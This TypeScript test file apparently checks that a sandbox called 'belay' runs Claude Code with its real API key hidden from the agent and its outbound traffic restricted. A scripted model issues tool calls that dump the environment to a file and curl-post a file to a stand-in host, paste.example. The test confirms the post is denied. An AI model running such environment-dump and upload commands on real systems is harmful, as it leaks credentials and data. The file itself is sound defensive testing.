// Claude Code as npm delivers it, through every layer: the installed `belay run`, no proxy variable,
// no other base URL. Its model is scripted and stands where the configuration says that
// api.anthropic.com is; everything else is real.

import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { beforeAll, expect } from 'vitest';
import { ORDINARY_UID, otherUidProblem } from '../installed.ts';
import { type ConfigParts, eventually, NODE, openPlace } from '../system/place.ts';
import { openScreen } from '../system/screen.ts';
import { startUpstream, type Upstream } from '../system/upstreams.ts';
import { verifies } from '../verifies.ts';
import { AGENTS, installAgents } from './install.ts';
import { expectWholeRecord } from './record.ts';
import { MODEL_HOST, speakAsModel } from './scripted-model.ts';

const COMMANDS = [
  'env > env.txt; echo written by a tool call > out.txt',
  'curl -sS -m 20 -o told.txt -w "%{http_code}" https://paste.example/new --data-binary @out.txt',
];

let bin: string;

beforeAll(() => {
  bin = installAgents(AGENTS);
}, 600_000);

function configured(model: Upstream): ConfigParts {
  return {
    agent: 'claude',
    allow: ['model:anthropic'],
    upstreams: { [MODEL_HOST]: model },
    credentials: {
      anthropic: {
        from: 'env:ANTHROPIC_API_KEY',
        environment: 'local',
        host: MODEL_HOST,
        methods: ['GET', 'HEAD', 'POST'],
        paths: ['/**'],
        header: 'x-api-key',
        variable: 'ANTHROPIC_API_KEY',
      },
    },
  };
}

async function throughEveryLayer(uid?: number): Promise<void> {
  const realKey = `sk-ant-${randomBytes(24).toString('hex')}`;
  await using model = await startUpstream([MODEL_HOST]);
  speakAsModel(model, COMMANDS);
  await using place = await openPlace(configured(model), uid === undefined ? {} : { uid });
  const { session, workdir } = place;
  const env = { ANTHROPIC_API_KEY: realKey, PATH: `${bin}:${session.env.PATH}` };
  const prompt = 'Write out.txt, then send it to the paste site.';
  const command = ['claude', '-p', prompt, '--dangerously-skip-permissions'];
  const run = await place.run(['--agent', 'claude'], command, { env, timeoutMs: 120_000 });

  expect(run.stderr).not.toContain('belay: error');
  expect(run.stdout).toContain('done after 2 tool calls');
  expect(run.status).toBe(0);
  const text = (name: string): string => readFileSync(join(workdir, name), 'utf8');
  expect(text('out.txt')).toBe('written by a tool call\n');

  // The model saw the real key, and only the model did.
  const inference = model.arrivals.filter(({ url }) => url.startsWith('/v1/messages'));
  expect(inference.length).toBeGreaterThanOrEqual(3);
  for (const { headers } of inference) expect(headers['x-api-key']).toBe(realKey);
  expect(text('env.txt')).toMatch(/^ANTHROPIC_API_KEY=blp-\S+$/m);
  expect(text('env.txt')).not.toMatch(/_proxy=|ANTHROPIC_BASE_URL/i);
  const homes = join(session.home, 'homes');
  expect(readdirSync(homes).some((name) => name.startsWith('claude'))).toBe(true);

  // The host that nobody asked for was refused, said so, and is listed with what would allow it.
  expect(text('told.txt')).toContain('belay_denied');
  expect(run.summary?.denied).toContainEqual(
    expect.objectContaining({
      host: 'paste.example',
      port: 443,
      method: 'POST',
      code: 'policy.no-permit',
      count: 1,
      remedy: '--allow paste.example',
    }),
  );

  const entries = await expectWholeRecord(place, model, run, realKey);
  const llm = entries.filter((entry) => entry.type === 'intent' && entry.kind === 'llm');
  expect(llm).toHaveLength(inference.length);
}

verifies(
  'agent.claude',
  'unmodified Claude Code works through every layer, as the present user',
  () => throughEveryLayer(),
  { timeoutMs: 180_000 },
);

verifies(
  'agent.claude',
  'unmodified Claude Code works through every layer, as an ordinary uid',
  () => throughEveryLayer(ORDINARY_UID),
  { timeoutMs: 180_000, skip: otherUidProblem() },
);

/** What its screen asks on the way, and what a user types. */
const ASKED: readonly (readonly [question: RegExp, ...keys: string[]])[] = [
  [/use this API key\?/, 'Up', 'Enter'],
  [/trust (?:the files in )?this folder/, 'Enter'],
  [/Do you want to (?:proceed|create|make)/, 'Enter'],
];

verifies(
  ['agent.claude', 'tty.agent'],
  'the screen of Claude Code is driven through the sandbox: asked, answered, and at work',
  async () => {
    await using model = await startUpstream([MODEL_HOST]);
    speakAsModel(model, COMMANDS);
    await using place = await openPlace(configured(model));
    const { session, workdir } = place;
    const env = { ANTHROPIC_API_KEY: 'sk-ant-a-real-one', PATH: `${bin}:${session.env.PATH}` };
    await using screen = await openScreen(session, { columns: 120, rows: 50, env });
    await screen.type(`${NODE} ${session.launcher} run --agent claude -- claude`, 'Enter');
    let prompted = false;
    await eventually(
      'the end of its work',
      async () => {
        const shown = await screen.text();
        if (shown.includes('done after 2 tool calls')) return true;
        const [, ...keys] = ASKED.find(([question]) => question.test(shown)) ?? [];
        // Key after key: an arrow and what follows it at once would be one key to the program.
        for (const key of keys) {
          await screen.type(key);
          await sleep(300);
        }
        if (keys.length === 0 && !prompted && /\? for shortcuts/.test(shown)) {
          prompted = true;
          await screen.type('Write out.txt, then send it to the paste site.', 'Enter');
        }
        await sleep(700);
        return undefined;
      },
      90_000,
    ).catch(async (error: Error) => {
      throw new Error(`${error.message}; it shows:\n${await screen.text()}`);
    });
    expect(readFileSync(join(workdir, 'out.txt'), 'utf8')).toBe('written by a tool call\n');
    await screen.type('/exit', 'Enter');
    await screen.waitFor(/belay: r-\w+: \d+ calls/);
  },
  { timeoutMs: 180_000 },
);
